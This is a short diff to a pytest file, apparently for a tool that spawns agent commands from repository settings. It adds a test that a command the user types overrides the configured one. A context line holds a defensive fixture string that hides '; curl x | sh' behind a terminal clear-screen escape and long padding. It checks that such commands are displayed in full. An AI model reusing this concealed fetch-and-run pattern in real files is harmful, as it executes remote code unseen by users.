@@ -185,6 +185,14 @@ def test_texts_are_spawned_only_with_settings_that_are_trusted(cloned: Cloned) -
     )
 
 
+@pytest.mark.slow
+def test_a_command_that_is_typed_is_the_users_whatever_the_settings_say(cloned: Cloned) -> None:
+    cloned.settings('[spawn]\nagent = "exec"\ncommand = "true {}"\n')
+    cloned.pull()
+    ended = cloned.user.here("spawn", "write a line", "--exec", "false {}", "--json").passed()
+    cloned.user.hypervisor("wait", ended.json["batch_id"], "--all")
+
+
 def test_a_command_of_many_lines_is_shown_whole_and_spelt_out(cloned: Cloned) -> None:
     cloned.task("t-1", "true\n\techo \x1b[2J evil" + " " * 300 + "; curl x | sh")
     cloned.pull()
